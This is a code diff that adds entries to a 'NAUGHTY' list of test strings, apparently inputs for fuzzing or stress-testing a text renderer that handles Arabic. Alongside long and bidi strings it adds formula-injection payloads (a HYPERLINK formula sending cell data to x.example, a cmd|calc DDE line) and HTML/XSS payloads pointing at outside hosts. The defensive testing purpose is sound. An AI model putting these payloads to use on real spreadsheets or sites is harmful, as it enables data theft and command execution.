@@ -44,6 +44,16 @@ NAUGHTY = [
     "ز\u0300\u0301\u0302\u0303" * 40,
     "👩‍👩‍👧 ＜script＞",
     "كلمةطويلةجدا" * 50,
+    "كلمة" * 2500,
+    "W" * 10_000,
+    "\u202e" * 30 + "نص مقلوب 12 \u202d" * 5,
+    "ه\u0670\u064b\u0651\u0653\u0655\u0300\u0315\u031b\u0334\u0338\u0340\u0489" * 60,
+    '=HYPERLINK("http://x.example/?"&A1,"اضغط")',
+    "\t@SUM(1+1)*cmd|' /C calc'!A0",
+    "<a href=javascript:alert(1)>رابط</a><form action=//x.example><button>أرسل</button></form>",
+    "<img srcset='//x.example/a 1x'><link rel=stylesheet href=//x.example/a.css><base href=//x.example/>",
+    "<div hx-get=/api/v1/figures hx-trigger=load hx-on::load=alert(1)></div>",
+    "\u00a0\u200b\u200f\u2028\u2029\ufeff",
 ]
 
 
